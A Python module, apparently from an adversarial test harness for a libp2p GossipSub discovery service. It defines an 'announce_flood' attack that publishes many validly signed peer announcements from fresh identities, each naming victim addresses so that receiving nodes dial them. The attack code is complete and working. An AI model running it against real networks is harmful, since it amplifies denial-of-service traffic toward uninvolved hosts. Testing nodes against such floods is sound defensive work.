"""Auto-dial amplification: announcements on the discovery topic from many fresh
identities, each a correctly signed GossipSub message whose ``Peer`` record names a victim."""

from __future__ import annotations

import contextlib
import itertools
from typing import Any

import multiaddr
import trio
from _attacker import attack
from _hostile_peers import rpc_frame
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.custom_types import TProtocol
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX

from ucsdk.proto import Peer

MESHSUB = TProtocol("/meshsub/1.1.0")
_seqnos = itertools.count(1)


def signed_announcement(topic: str, addrs: list[str]) -> rpc_pb2.Message:
    """A discovery announcement from a brand-new identity, signed the way strict signing
    asks (``libp2p-pubsub:`` + the message without key and signature)."""
    keys = create_new_key_pair()
    sender = ID.from_pubkey(keys.public_key)
    data = Peer(
        publicKey=keys.public_key.serialize(),
        addrs=[multiaddr.Multiaddr(a).to_bytes() for a in addrs],
    ).SerializeToString()
    message = rpc_pb2.Message(
        from_id=sender.to_bytes(),
        data=data,
        seqno=next(_seqnos).to_bytes(8, "big"),
        topicIDs=[topic],
    )
    message.signature = keys.private_key.sign(
        PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString()
    )
    message.key = keys.public_key.serialize()
    return message


@attack("announce_flood")
async def announce_flood(host: Any, args: dict[str, Any]) -> int:
    """Publish ``args["count"]`` announcements on ``args["topic"]`` to ``args["peer"]`` (already
    connected), each from a fresh identity listing ``args["addrs"]``; how many were sent."""
    peer = ID.from_base58(args["peer"])
    topic = args["topic"]
    with trio.fail_after(10):
        stream = await host.new_stream(peer, [MESHSUB])
    sub = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=topic)])
    await stream.write(rpc_frame(sub))
    sent = 0
    for _ in range(int(args["count"])):
        await stream.write(
            rpc_frame(rpc_pb2.RPC(publish=[signed_announcement(topic, args["addrs"])]))
        )
        sent += 1
    await trio.sleep(float(args.get("linger", 2)))
    with trio.move_on_after(2), contextlib.suppress(Exception):
        await stream.close()
    return sent
